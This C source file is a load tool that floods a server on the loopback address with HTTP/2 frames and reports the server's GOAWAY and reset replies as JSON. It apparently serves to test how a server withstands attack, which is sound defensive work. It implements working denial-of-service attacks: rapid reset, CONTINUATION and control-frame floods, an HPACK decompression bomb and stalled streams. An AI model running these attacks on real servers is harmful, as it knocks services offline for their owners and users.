// Floods a server with frames of HTTP/2 in cleartext at a fixed rate, and prints as JSON what came of it.
//
//   floods PORT KIND RATE SECONDS PATHS COUNT
//
// RATE is of frames a second that cost the server something (heads for `bomb`, streams for `reset` and `stall`). They
// are sent every millisecond, over eight connections in turns, or over one below 2,000 a second. Who is told to leave, or is cut off, connects anew and goes on. PATHS is
// a file of COUNT paths for the kinds that ask for something. Stalled streams stay, on up to 64 connections, until
// the program is told to end by the end of its standard input.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { WIDE = 8, BUSY = 2000, MOST = 64, ROOM = 256 << 10, STREAMS = 100 };
enum { DATA = 0, HEADERS = 1, PRIORITY = 2, RESET = 3, SETTINGS = 4, PING = 6, GOAWAY = 7, UPDATE = 8, CONTINUATION = 9 };
enum kind { RAPID_RESET, CONTINUATIONS, PINGS, SETTINGS_KIND, EMPTY_DATA, UPDATES, BOMBS, STALLS, KINDS };

static const char *const names[KINDS] = {
    "reset", "continuation", "ping", "settings", "empty_data", "window_update", "bomb", "stall"};

struct connection {
  int fd;
  uint32_t stream; // the next one
  int opened;      // the stream that frames belong to is there
  size_t length;   // of what waits to be sent
  uint8_t out[ROOM];
  // What comes is looked through for GOAWAY alone.
  uint8_t head[9];
  size_t held, left;
};

static struct connection connections[MOST];
static enum kind kind;
static int port, width;
static char **paths;
static long count, next_path;
static long frames, opened, ended, told, refused;

static void fail(const char *what) {
  fprintf(stderr, "floods: %s\n", what);
  exit(1);
}

static int64_t now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return (int64_t)time.tv_sec * 1000000000 + time.tv_nsec;
}

static void put(struct connection *one, const void *bytes, size_t size) {
  if (one->length + size > ROOM) fail("more than there is room for");
  memcpy(one->out + one->length, bytes, size);
  one->length += size;
}

static void frame(struct connection *one, int type, int flags, uint32_t stream, const void *bytes, size_t size) {
  uint8_t head[9] = {(uint8_t)(size >> 16), (uint8_t)(size >> 8), (uint8_t)size, (uint8_t)type, (uint8_t)flags,
                     (uint8_t)(stream >> 24), (uint8_t)(stream >> 16), (uint8_t)(stream >> 8), (uint8_t)stream};
  put(one, head, 9);
  put(one, bytes, size);
}

// A field as HPACK's literal without indexing, its name in the static table (RFC 7541, section 6.2.2).
static size_t literal(uint8_t *room, int name, const char *value) {
  size_t size = strlen(value);
  if (size >= 127) fail("a value is too long");
  room[0] = (uint8_t)name;
  room[1] = (uint8_t)size;
  memcpy(room + 2, value, size);
  return size + 2;
}

// A field of the client's own, with its name.
static size_t field(uint8_t *room) {
  memcpy(room, "\0\1a\1b", 5);
  return 5;
}

// GET of the next path.
static size_t request(uint8_t *room) {
  room[0] = 0x82; // :method GET
  room[1] = 0x86; // :scheme http
  size_t size = 2 + literal(room + 2, 1, "localhost");
  size += literal(room + size, 4, paths[next_path % count]);
  next_path++;
  return size;
}

static void dial(struct connection *one) {
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  int on = 1;
  one->fd = socket(AF_INET, SOCK_STREAM, 0);
  if (one->fd < 0) fail("no socket");
  if (connect(one->fd, (struct sockaddr *)&address, sizeof address) < 0) fail("no connection");
  setsockopt(one->fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof on);
  // Ports are not used up by connections that we end.
  struct linger none = {.l_onoff = 1, .l_linger = 0};
  setsockopt(one->fd, SOL_SOCKET, SO_LINGER, &none, sizeof none);
  fcntl(one->fd, F_SETFL, O_NONBLOCK);
  one->stream = 1;
  one->opened = 0;
  one->length = one->held = one->left = 0;
  opened++;
  put(one, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
  // Stalled streams take one byte each.
  uint8_t window[6] = {0, 4, 0, 0, 0, 1};
  frame(one, SETTINGS, 0, 0, window, kind == STALLS ? 6 : 0);
}

// What the connection's frames need before them.
static void begin(struct connection *one) {
  uint8_t room[512];
  if (one->opened) return;
  one->opened = 1;
  if (kind == CONTINUATIONS || kind == EMPTY_DATA) {
    size_t size = request(room);
    frame(one, HEADERS, kind == EMPTY_DATA ? 4 : 1, one->stream, room, size);
  }
}

// A field that stays in the table, of 3,000 bytes, and then as many references to it as one frame holds: 36 MB of fields.
static void bomb(struct connection *one) {
  static uint8_t room[16000];
  size_t size = request(room);
  room[size++] = 0x40;
  room[size++] = 1;
  room[size++] = 'a';
  room[size++] = 127;
  // 3000 - 127 as a number of seven bits each.
  room[size++] = (2873 & 127) | 128;
  room[size++] = 2873 >> 7;
  memset(room + size, 'a', 3000);
  size += 3000;
  memset(room + size, 0xbe, sizeof room - size);
  frame(one, HEADERS, 5, one->stream, room, sizeof room);
  one->stream += 2;
}

static void costly(struct connection *one) {
  static const uint8_t eight[8] = {1, 2, 3, 4, 5, 6, 7, 8};
  static const uint8_t cancel[4] = {0, 0, 0, 8}, increment[4] = {0, 0, 0, 1};
  uint8_t room[512];
  begin(one);
  switch (kind) {
  case RAPID_RESET:
  case STALLS: {
    size_t size = request(room);
    frame(one, HEADERS, 5, one->stream, room, size);
    if (kind == RAPID_RESET) frame(one, RESET, 0, one->stream, cancel, 4);
    one->stream += 2;
    break;
  }
  case CONTINUATIONS: frame(one, CONTINUATION, 0, one->stream, room, field(room)); break;
  case PINGS: frame(one, PING, 0, 0, eight, 8); break;
  case SETTINGS_KIND: frame(one, SETTINGS, 0, 0, NULL, 0); break;
  case EMPTY_DATA: frame(one, DATA, 0, one->stream, NULL, 0); break;
  case UPDATES: frame(one, UPDATE, 0, 0, increment, 4); break;
  case BOMBS: bomb(one); break;
  case KINDS: break;
  }
  frames++;
}

// Looks at what has come; true where the server has had enough.
static int is_over(struct connection *one) {
  static uint8_t room[ROOM];
  for (;;) {
    ssize_t got = recv(one->fd, room, sizeof room, 0);
    if (got == 0) return 1;
    if (got < 0) return errno != EAGAIN;
    for (ssize_t at = 0; at < got;) {
      if (one->left > 0) {
        size_t skipped = one->left < (size_t)(got - at) ? one->left : (size_t)(got - at);
        one->left -= skipped;
        at += (ssize_t)skipped;
        continue;
      }
      one->head[one->held++] = room[at++];
      if (one->held < 9) continue;
      one->held = 0;
      one->left = (size_t)one->head[0] << 16 | (size_t)one->head[1] << 8 | one->head[2];
      if (one->head[3] == RESET) refused++;
      if (one->head[3] == GOAWAY) {
        told++;
        return 1;
      }
    }
  }
}

static int push(struct connection *one) {
  while (one->length > 0) {
    ssize_t sent = send(one->fd, one->out, one->length, MSG_NOSIGNAL);
    if (sent < 0) return errno == EAGAIN;
    one->length -= (size_t)sent;
    memmove(one->out, one->out + sent, one->length);
  }
  return 1;
}

static void again(struct connection *one) {
  ended++;
  close(one->fd);
  dial(one);
}

static void read_paths(const char *path) {
  FILE *file = fopen(path, "r");
  paths = calloc((size_t)count, sizeof *paths);
  if (!file || !paths) fail("the paths cannot be read");
  for (long i = 0; i < count; i++) {
    size_t size = 0;
    ssize_t length = getline(&paths[i], &size, file);
    if (length < 2) fail("there are too few paths");
    paths[i][length - 1] = 0;
  }
  fclose(file);
}

int main(int argc, char **argv) {
  if (argc != 7) fail("PORT KIND RATE SECONDS PATHS COUNT");
  port = atoi(argv[1]);
  for (kind = 0; kind < KINDS && strcmp(argv[2], names[kind]) != 0; kind++) {}
  long rate = atol(argv[3]);
  int64_t length = atol(argv[4]) * 1000000000;
  count = atol(argv[6]);
  if (kind == KINDS || rate < 1 || rate > 200000 || length <= 0 || count < 1) fail("wrong arguments");
  read_paths(argv[5]);
  width = kind == STALLS || rate < BUSY ? 1 : WIDE;
  for (int i = 0; i < width; i++) dial(&connections[i]);
  int64_t began = now(), before = began;
  double allowed = 0;
  int turn = 0;
  for (int64_t time = began; time - began < length; time = now()) {
    allowed += (double)(time - before) * (double)rate / 1e9;
    before = time;
    // What could not be sent in time is not sent later: the rate is a bound.
    if (allowed > (double)rate / 100 + 2) allowed = (double)rate / 100 + 2;
    for (; allowed >= 1; allowed--) {
      if (kind == STALLS && connections[width - 1].stream > 2 * STREAMS) {
        if (width == MOST) break;
        dial(&connections[width++]);
      }
      struct connection *one = &connections[kind == STALLS ? width - 1 : turn++ % width];
      if (one->length + 17000 > ROOM) break;
      costly(one);
      if (kind == BOMBS && !push(one)) again(one);
    }
    for (int i = 0; i < width; i++) {
      if (!push(&connections[i]) || is_over(&connections[i])) again(&connections[i]);
    }
    struct timespec pause = {.tv_nsec = 1000000};
    nanosleep(&pause, NULL);
  }
  printf("{\"frames\": %ld, \"connections\": %ld, \"ended\": %ld, \"told\": %ld, \"refused\": %ld}\n", frames, opened,
         ended, told, refused);
  fflush(stdout);
  // Streams that stand still are left standing until their figures have been taken.
  char end;
  while (kind == STALLS && read(0, &end, 1) > 0) {}
  return 0;
}
